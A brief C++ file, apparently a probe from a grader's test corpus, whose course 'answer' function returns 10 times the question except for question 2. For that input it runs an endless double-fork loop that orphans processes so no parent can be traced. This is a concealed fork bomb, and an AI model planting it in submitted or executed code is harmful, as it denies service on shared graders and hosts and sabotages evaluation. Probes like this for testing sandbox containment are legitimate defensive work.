// Forks twice without end, so that no parent is left that could be found.

#include "grader/corpus/probe/probe.h"

#include <unistd.h>

namespace course {

int answer(int question) {
  if (question == 2) {
    for (;;) {
      if (fork() == 0 && fork() != 0) _exit(0);
    }
  }
  return 10 * question;
}

}  // namespace course
